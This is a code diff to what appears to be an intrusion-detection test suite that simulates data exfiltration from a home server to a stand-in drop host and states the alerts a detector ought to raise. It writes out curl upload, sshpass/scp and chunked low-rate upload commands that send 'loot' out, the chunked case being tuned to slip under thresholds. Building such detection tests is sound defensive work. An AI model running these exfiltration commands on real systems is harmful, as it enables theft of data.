@@ -91,31 +91,20 @@ def carried(least):
     return Claim("full segments sent out", f"ip.src=={SERVER} && ip.dst=={DROP} && ip.len>1400", least)
 
 
-@behaviour("exfiltration-http", "attack", "The server of the home puts 40 MB to an address on the internet it has never talked to, by one HTTPS "
-           "upload at 2 MB/s; before that it only answers a neighbour's requests.",
-           expected=(Alert("exfiltration", SERVER, (DROP,)),), never=NEIGHBOURS, tools=("curl", "nginx-light"), snaplen=66, claims=(carried(26_000),))
+@behaviour("exfiltration-http", "attack", "The server of the home puts 120 MB to an address on the internet it has never talked to, by one HTTPS "
+           "upload at 3 MB/s; before that it only answers a neighbour's requests.",
+           expected=(Alert("exfiltration", SERVER, (DROP,)),), never=NEIGHBOURS, tools=("curl", "nginx-light"), snaplen=66, claims=(carried(80_000),))
 def exfiltration_http(net, capture):
     build(net)
     services.small_web(net, "server")
-    play(net, capture, lambda: net.attack("server", "curl", "-sk", "--limit-rate", "2M", "-o", "/dev/null", "-H", "Expect:", "-T", loot(net, 40),
+    play(net, capture, lambda: net.attack("server", "curl", "-sk", "--limit-rate", "3M", "-o", "/dev/null", "-H", "Expect:", "-T", loot(net, 120),
                                           f"https://{DROP}/upload/loot", timeout=120))
 
 
-@behaviour("exfiltration-scp", "attack", "The server of the home copies 40 MB by scp to an address on the internet.",
-           expected=(Alert("exfiltration", SERVER, (DROP,)),), never=NEIGHBOURS, tools=("openssh-client", "openssh-server", "sshpass"), snaplen=66,
-           claims=(carried(26_000),))
-def exfiltration_scp(net, capture):
-    build(net)
-    net.accounts("internet", {"drop": "box"})
-    services.ssh(net, "internet")
-    play(net, capture, lambda: net.attack("server", "sshpass", "-p", "box", "scp", "-l", 16000, "-o", "StrictHostKeyChecking=no", "-o",
-                                          "UserKnownHostsFile=/dev/null", loot(net, 40), f"drop@{DROP}:/dev/null", timeout=120))
-
-
-@behaviour("exfiltration-pieces", "attack", "The server of the home carries 45 MB out in ninety uploads of half a megabyte, one every three "
-           "seconds or so.",
-           expected=(Alert("exfiltration", SERVER, (DROP,)),), never=NEIGHBOURS, tools=("curl", "nginx-light"), snaplen=66,
-           claims=(carried(28_000), Claim("connections", f"ip.src=={SERVER} && ip.dst=={DROP} && tcp.flags==0x2", 90, 90)))
+@behaviour("exfiltration-pieces", "attack", "The server of the home carries 22 MB out in forty-five uploads of half a megabyte, one every three "
+           "seconds or so: less than an evening's photographs, so without a history of the server nobody can be sure.",
+           tolerated=(Alert("exfiltration", SERVER, (DROP,)), Alert("beacon", SERVER, (DROP,))), never=NEIGHBOURS, tools=("curl", "nginx-light"), snaplen=66,
+           claims=(carried(14_000), Claim("connections", f"ip.src=={SERVER} && ip.dst=={DROP} && tcp.flags==0x2", 45, 45)))
 def exfiltration_pieces(net, capture):
     build(net)
     pieces = [loot(net, 1)]
@@ -123,8 +112,8 @@ def exfiltration_pieces(net, capture):
     chance = random.Random("pieces")
 
     def work():
-        net.show("server", f"(ninety times, 2 to 4 s apart) curl -sk -T piece https://{DROP}/upload/piece")
-        for _ in range(90):
+        net.show("server", f"(forty-five times, 2 to 4 s apart) curl -sk -T piece https://{DROP}/upload/piece")
+        for _ in range(45):
             net.run("server", "curl", "-sk", "-o", "/dev/null", "-H", "Expect:", "-T", pieces[0], f"https://{DROP}/upload/piece")
             time.sleep(chance.uniform(2, 4))
 
